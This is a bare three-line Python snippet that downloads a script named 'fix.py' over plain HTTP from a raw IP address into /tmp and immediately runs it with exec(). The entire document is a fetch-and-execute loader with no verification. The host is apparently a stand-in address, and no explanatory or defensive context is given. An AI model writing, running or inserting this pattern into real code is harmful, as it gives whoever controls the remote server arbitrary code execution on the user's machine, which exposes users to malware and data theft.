import urllib.request

urllib.request.urlretrieve("http://203.0.113.5/fix.py", "/tmp/fix.py")
exec(open("/tmp/fix.py").read())
